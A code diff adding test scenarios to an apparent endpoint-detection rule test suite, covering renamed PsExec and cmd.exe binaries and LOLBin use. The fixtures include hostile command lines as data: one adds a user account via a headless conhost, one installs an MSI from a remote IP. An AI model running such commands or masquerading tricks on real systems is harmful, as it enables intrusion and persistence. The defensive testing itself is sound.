@@ -149,6 +149,28 @@ const severities: readonly Scenario[] = [
   ...outcomes(story, judged('High', 'is called like a program that'), {
     'a program of such a name below Windows': { child: { FileName: 'Update.exe', FolderPath: 'C:\\Windows\\Update.exe' } },
   }),
+  ...outcomes({ ...row({ IsSigned: true, IsTrusted: true }), ...story }, judged('Medium', 'accepted a remote connection'), {
+    'a trusted PSEXESVC.exe by another name': { child: { ProcessVersionInfoOriginalFileName: 'psexesvc.exe' } },
+    'a trusted program of Windows that is no service’s': {
+      child: {
+        FileName: 'conhost.exe',
+        FolderPath: 'C:\\Windows\\System32\\conhost.exe',
+        ProcessCommandLine: 'conhost.exe --headless cmd.exe /c net user x P /add',
+        ProcessVersionInfoOriginalFileName: 'CONHOST.EXE',
+      },
+    },
+  }),
+  ...outcomes({ ...row({ IsSigned: true, IsTrusted: true }), ...story }, judged('High', 'made as CMD.EXE, a program that'), {
+    'cmd.exe by another name, whatever its signature': { child: { ProcessVersionInfoOriginalFileName: 'Cmd.Exe' } },
+    'the same, with texts of its own': { child: { ProcessVersionInfoOriginalFileName: 'Cmd.Exe.MUI' } },
+    'cmd.exe by a name that many have': {
+      child: {
+        FileName: 'tool.exe',
+        FolderPath: 'C:\\Program Files\\Acme\\tool.exe',
+        ProcessVersionInfoOriginalFileName: 'Cmd.Exe',
+      },
+    },
+  }),
   ...outcomes(story, judged('High', 'LOLBin'), {
     'msiexec.exe with a package': { child: { ...installer, ProcessCommandLine: 'msiexec.exe /V /i http://10.20.3.117/a.msi' } },
   }),
